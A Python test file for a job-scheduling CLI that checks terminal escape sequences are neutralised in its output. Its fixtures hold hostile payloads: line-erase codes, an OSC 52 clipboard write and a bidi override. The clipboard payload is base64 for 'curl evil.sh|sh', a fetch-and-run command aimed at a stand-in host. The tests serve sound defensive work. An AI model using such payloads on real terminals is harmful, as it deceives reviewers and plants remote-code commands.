"""Terminal controls from pull-request fields or runs never reach a terminal (issue 64, item 5).

`jobplane plan` printed job fields raw: a job's argv could erase the `reads secrets:` line
(``ESC [2K``) or write the reviewer's clipboard (OSC 52, ``ESC ]52;c;<base64> BEL``), and a map
item reached the `jobplane dev` console's alert the same way. Every write of the CLI now goes
through one escaper (contract/quoting.py ``terminal_safe``, installed by the command group:
cli/terminal.py): these tests print hostile fields through plan, validate and next, in process
and through the console script, and a log line as the dev console prints its alerts."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from conftest import Repo

#: erase the line above, return, and an OSC 52 clipboard write; a bidirectional override
HOSTILE = r"\u001b[1A\u001b[2K\r\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u202e"
EVIL = """\
local jp = import 'jobplane.libsonnet';
{
  name: 'evil',
  team: 'growth',
  description: 'nightly %(h)s report',
  schedule: jp.daily('02:00'),
  steps: [jp.shell('run', ['%(h)s', 'x'])],
}
""" % {"h": HOSTILE}
SCRIPT = str(Path(sys.executable).parent / "jobplane")


def raw_controls(text: str) -> list[str]:
    """Every character a terminal would act on (a newline and a tab are text)."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f
            or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"]


def test_plan_shows_a_jobs_argv_escaped(repo: Repo) -> None:
    repo.write("jobs/growth/evil.jsonnet", EVIL)
    result = repo.cli("plan")
    assert result.exit_code == 0, result.output
    assert raw_controls(result.output) == []
    # shown, so the reviewer sees the attempt (click itself drops CSI sequences like ESC [2K
    # when the output is no terminal; on a terminal they reach the escaper, as OSC 52 does here)
    assert "\\x0d\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07\\u202e" in result.output
    assert "reads secrets: none" in result.output


def test_validate_and_next_show_definition_text_escaped(repo: Repo) -> None:
    repo.write("jobs/growth/evil.jsonnet", EVIL.replace("team: 'growth'", "team: 'growth', %s: 1" % "'bad\\u001b]52;c;x\\u0007'"))
    bad = repo.cli("validate")
    assert bad.exit_code != 0 and "bad\\x1b]52;c;x\\x07" in bad.output, bad.output
    assert raw_controls(bad.output) == []
    repo.write("jobs/growth/evil.jsonnet", EVIL)
    nxt = repo.cli("next", "evil")
    assert nxt.exit_code == 0, nxt.output
    assert raw_controls(nxt.output) == []


def test_the_console_script_escapes_stdout_and_stderr(repo: Repo) -> None:
    """Through the real entry point (a process of its own: no test runner's capture)."""
    repo.write("jobs/growth/evil.jsonnet", EVIL)
    proc = subprocess.run([SCRIPT, "--root", str(repo.path), "plan"], capture_output=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    out = proc.stdout.decode()
    assert raw_controls(out) == [] and raw_controls(proc.stderr.decode()) == []
    assert "\\x1b]52;c;" in out


def test_a_log_line_of_the_dev_console_is_escaped() -> None:
    """`jobplane dev` logs its console alerts with logging, whose handler is made after the
    command group put stderr behind the escaper (cli/local.py basicConfig)."""
    code = ("import logging\nfrom jobplane.cli.terminal import install\ninstall()\nlogging.basicConfig()\n"
            "logging.getLogger('jobplane.notifier').warning('item failed: %s', 't-1\\x1b]52;c;aGk=\\x07\\x1b[2K')\n")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, timeout=60)
    err = proc.stderr.decode()
    assert proc.returncode == 0 and "t-1\\x1b]52;c;aGk=\\x07\\x1b[2K" in err, err
    assert raw_controls(err) == []
